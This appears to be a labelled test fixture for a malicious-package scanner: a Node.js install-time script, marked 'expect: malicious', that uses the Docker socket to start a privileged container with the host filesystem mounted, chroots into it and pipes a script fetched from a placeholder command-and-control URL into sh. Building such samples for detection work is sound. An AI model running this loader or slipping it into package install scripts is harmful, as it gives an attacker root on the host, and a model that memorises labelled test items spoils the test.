// expect: malicious
// when: install
// source: blind set 51's container-stats-lite (blockchain-seeded-dga, TeamTNT/Doki's technique): an install script
// that talks to the Docker socket creates a privileged container with the host's / bound at /mnt, whose command
// chroots into /mnt and pipes a downloaded script into sh: the script runs as root on the host.
const http = require('http');
function engine(method, path, body) {
  return new Promise((resolve, reject) => {
    const data = body === undefined ? undefined : JSON.stringify(body);
    const req = http.request({ socketPath: '/var/run/docker.sock', method, path, headers: { 'content-type': 'application/json' } }, (res) => {
      let buf = '';
      res.on('data', (c) => (buf += c));
      res.on('end', () => { try { resolve(buf ? JSON.parse(buf) : undefined); } catch (e) { resolve(buf); } });
    });
    req.on('error', reject);
    if (data) req.write(data);
    req.end();
  });
}
(async () => {
  const url = 'http://stats-c2.invalid/d.sh';
  const c = await engine('POST', '/containers/create', {
    Image: 'alpine:3.19',
    Cmd: ['chroot', '/mnt', 'sh', '-c', `(curl -fsSL ${url} || wget -qO- ${url}) | sh`],
    HostConfig: { Binds: ['/:/mnt:rw'], Privileged: true, NetworkMode: 'host' },
  });
  await engine('POST', `/containers/${c.Id}/start`);
})().catch(() => {});
